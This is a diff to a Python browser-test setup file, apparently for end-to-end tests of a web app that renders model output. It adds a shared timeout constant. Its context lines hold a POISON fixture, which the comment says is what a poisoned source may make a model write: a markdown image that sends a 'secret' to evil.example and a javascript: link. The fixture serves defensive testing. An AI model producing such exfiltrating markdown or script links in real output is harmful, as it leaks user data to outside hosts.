@@ -12,7 +12,7 @@ from dataclasses import dataclass, replace
 import httpx
 import pytest
 from fastapi import FastAPI
-from playwright.async_api import Browser, ConsoleMessage, Page, async_playwright
+from playwright.async_api import Browser, ConsoleMessage, Page, async_playwright, expect
 from pydantic import SecretStr
 
 from api.deps import COOKIE
@@ -29,6 +29,7 @@ from workers.main import RETRY, working
 CHROMIUM = next(
     filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
 )
+PATIENCE_MS = 15_000  # with what a busy machine may need for anything
 # Slow enough to be stopped or left in the middle, and at its end what a poisoned source may make a model write.
 POISON = (
     "\n\n![x](https://evil.example/x.png?q=secret) [press](javascript:alert(1)) ",
@@ -49,6 +50,7 @@ def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
 
 @pytest.fixture(scope="session")
 async def browser() -> AsyncGenerator[Browser]:
+    expect.set_options(timeout=PATIENCE_MS)
     async with async_playwright() as playwright:
         # Without its own sandbox, which needs rights that containers do not give; it opens our page only.
         args = ["--no-sandbox", "--disable-dev-shm-usage"]
@@ -125,7 +127,7 @@ async def _watched(site: Site, browser: Browser) -> AsyncGenerator[Page]:
     forbidden: list[str] = []
     context = await browser.new_context(viewport={"width": 1280, "height": 800})
     page = await context.new_page()
-    page.set_default_timeout(15_000)
+    page.set_default_timeout(PATIENCE_MS)
     page.on("request", lambda r: None if r.url.startswith(site.url) else forbidden.append(r.url))
     page.on("pageerror", lambda error: forbidden.append(str(error)))
     page.on("console", lambda message: forbidden.extend(_complaint(message)))
